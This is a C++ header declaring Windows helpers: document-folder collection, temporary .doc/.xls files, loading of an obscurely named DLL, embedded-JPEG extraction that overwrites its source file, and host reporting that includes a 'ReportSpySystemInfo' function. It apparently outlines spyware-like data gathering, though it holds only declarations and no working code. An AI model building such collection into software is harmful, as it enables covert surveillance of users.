// app/SystemHelpers.h
// Small helpers over the platform: special folders, the system version, temporary file names,
// CRC-16/CRC-32, the optional language library, embedded JPEG pictures and the machine
// description for the usage report.
#pragma once
#include <windows.h>
#include <stdint.h>
#include <set>
#include <string>
#include <vector>

struct IPicture;

// SHGetSpecialFolderPath without creating the folder; buffer holds MAX_PATH. Always 0; the
// buffer is empty when the folder is unknown.
int GetSpecialFolderPath(int csidl, char* buffer);
// Adds the personal documents folder (CSIDL_PERSONAL) to folders. Always 0.
int CollectDocumentFolders(std::set<std::string>& folders);
// True when the system's major version is at least 6.
bool GetOsVersion();

// Temporary files of this run, each made by GetTempFileName with prefix "~@!". Every name
// made is remembered and removed with its ".doc" and ".xls" companions by RemoveTempFiles
// and at process exit.
class CTempPathNameSignle
{
public:
    static CTempPathNameSignle& Instance();
    // The new file's path; empty when the temporary folder or the name cannot be had.
    std::string MakeTempPathName();
    void RemoveTempFiles();
    CTempPathNameSignle(const CTempPathNameSignle&) = delete;
    CTempPathNameSignle& operator=(const CTempPathNameSignle&) = delete;

private:
    CTempPathNameSignle() = default;
    ~CTempPathNameSignle();
    std::vector<std::string> m_names;
};

// Table-driven CRCs, most significant bit first, initial value 0, no final XOR.
void Crc16BuildTable(uint16_t polynomial, uint16_t table[256]);
uint16_t Crc16(const void* bytes, size_t length, uint16_t polynomial);
void Crc32BuildTable(uint32_t polynomial, uint32_t table[256]);
uint32_t Crc32(const void* bytes, size_t length, uint32_t polynomial);

// Result codes of the language library when it offers no object.
constexpr int kLanguageNoExport = 0x2501005;
constexpr int kLanguageNoObject1 = 0x2F01005;
constexpr int kLanguageNoObject2 = 0x3901005;
constexpr int kLanguageNoObject3 = 0x4301005;
constexpr int kLanguageNoObject4 = 0x4D01005;

// The object the export "NorvantaApi" hands out; only its fifth to eighth operations are used.
struct LanguageApi
{
    virtual int Reserved0() = 0;
    virtual int Reserved1() = 0;
    virtual int Reserved2() = 0;
    virtual int Reserved3() = 0;
    virtual int Call1() = 0;
    virtual int Call2() = 0;
    virtual int Call3(int a, int b) = 0;
    virtual int Call4(int a, int b, int c) = 0;
};

// "VirEdozuvor.dll" from the program folder (or a folder given for tests).
class LanguageLibrary
{
public:
    ~LanguageLibrary() { Unload(); }
    // 0 when the object was had; kLanguageNoExport when the library, the export or its
    // object is missing.
    int Load(const char* folder = nullptr);
    void Unload();
    bool HasObject() const { return m_api != nullptr; }
    int Call1() { return m_api ? m_api->Call1() : kLanguageNoObject1; }
    int Call2() { return m_api ? m_api->Call2() : kLanguageNoObject2; }
    int Call3(int a, int b) { return m_api ? m_api->Call3(a, b) : kLanguageNoObject3; }
    int Call4(int a, int b, int c) { return m_api ? m_api->Call4(a, b, c) : kLanguageNoObject4; }

private:
    HMODULE m_module = nullptr;
    LanguageApi* m_api = nullptr;
};

// Scan limit of the embedded-JPEG search.
constexpr size_t kJpegScanLimit = 262144;
// Offset and length of the first FF D8 FF ... FF D9 stretch within the first kJpegScanLimit
// bytes (never past length); false when there is none.
bool FindEmbeddedJpeg(const uint8_t* bytes, size_t length, size_t* offset, size_t* size);
// That stretch of the file loaded with OleLoadPicture; null when the file or stretch is
// missing. The caller releases the picture.
IPicture* LoadPictureFile(const char* path);
// Writes the stretch to target, then copies target over source. Nothing is written when no
// stretch is found, and source is only replaced once target holds the whole stretch. TRUE on
// success.
BOOL ExtractEmbeddedJpeg(const char* source, const char* target);

// Machine description parts. Each returns its text (empty when unavailable).
std::string ReportOsDescription();
std::string FormatTotalMemory();
std::string FormatLocalIpList();
void ReportSpySystemInfo();
void ReportMachineDescription();
